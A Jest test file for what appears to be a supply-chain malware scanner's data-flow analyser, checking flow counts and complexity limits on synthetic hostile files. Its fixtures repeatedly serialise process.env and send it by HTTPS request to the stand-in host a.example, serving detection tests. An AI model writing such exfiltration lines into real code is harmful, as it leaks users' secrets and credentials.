import { describe, expect, it } from '@jest/globals'
import { maxFlowSources, maxFlowSteps, maxFlowsOfFile, maxKeySteps } from '../../../../src/limits.js'
import { fileAnalyser } from '../../../../src/package/code/analyse-file.js'

const analyse = fileAnalyser()

const read = (code: string) => {
  const { flows, unanalysable, flowsCut } = analyse(Buffer.from(code), 'index.js')
  return { flows: flows.length, reason: unanalysable?.reason, ...(flowsCut && { flowsCut }) }
}

const times = (count: number, make: (at: number) => string): string =>
  Array.from({ length: count }, (_, at) => make(at)).join('')

const sends = "require('https').request('https://a.example').end(JSON.stringify(z));"

describe('flows of hostile files', () => {
  it('follow names that stand for names to the end', () => {
    const names = `let a0=JSON.stringify(process.env);${times(25, (at) => `let a${at + 1}=a${at};`)}`
    expect(read(`${names}const z=a25;${sends}`)).toEqual({ flows: 1, reason: undefined })
  })

  it('tell so many flows and no more', () => {
    const code = `const z=[${times(maxFlowsOfFile + 20, () => 'JSON.stringify(process.env),')}];${sends}`
    expect(read(code)).toEqual({ flows: maxFlowsOfFile, reason: undefined })
  })

  it('leave a file unread that has more secrets than are followed', () => {
    const code = `const z=[];${times(maxFlowSources + 1, () => 'z.push({...process.env});')}${sends}`
    expect(read(code).reason).toBe('too-complex')
  })

  it('leave a file unread whose secrets lead to more places than are looked at', () => {
    const uses = 50
    const properties = times(maxFlowSteps / uses + 10, (at) => `p${at}:k,`)
    const code = `const k=JSON.stringify(process.env);const z={${properties}};${times(uses, () => 'z;')}${sends}`
    expect(read(code).reason).toBe('too-complex')
  })

  it('say of a bundle only that not all was followed, and tell what was', () => {
    const lines = times(
      2_000,
      (at) => `function f${at}(a, b, c) { return [a, b, c, ${at}, 'some text to fill it up with, more and more' ] }\n`,
    )
    const many = times(maxFlowSources + 1, () => ';({...process.env})')
    const one = 'const z=JSON.stringify(process.env)'
    expect(read(`${lines}${one};${sends}`)).toEqual({ flows: 1, reason: undefined })
    expect(read(`${lines}${one}${many};${sends}`)).toEqual({ flows: 1, reason: undefined, flowsCut: true })
  })

  it('say that not all was followed where what is named like a key leads to more places than are looked at', () => {
    const uses = 50
    const properties = times(maxKeySteps / uses + 10, (at) => `p${at}:key,`)
    const code = `function f(apiKey){const key=apiKey;const z={${properties}};${times(uses, () => 'z;')}${sends}}`
    expect(read(code)).toEqual({ flows: 1, reason: undefined, flowsCut: true })
  })

  it('end with functions that call one another with themselves', () => {
    const code = `const k=JSON.stringify(process.env)
function f(a,b,c){ const x={a,b,c}; f(x,b,[a]); f(c,x,{x}); g(f); return x }
function g(h){ return h(k,k,k) }
const z=f(k,{k},[k]);${sends}`
    expect(read(code)).toEqual({ flows: 1, reason: undefined })
  })
})
